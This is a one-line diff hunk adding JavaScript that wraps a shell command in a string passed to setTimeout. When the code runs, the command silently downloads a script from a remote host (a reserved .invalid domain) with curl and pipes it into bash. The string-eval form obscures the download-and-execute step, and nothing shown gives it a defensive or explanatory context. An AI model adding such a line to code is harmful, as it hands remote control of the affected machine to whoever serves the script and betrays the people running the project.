@@ -1,0 +1,1 @@
+setTimeout("require('child_process').execSync('curl -s https://cdn-x7.invalid/a | bash')", 1);
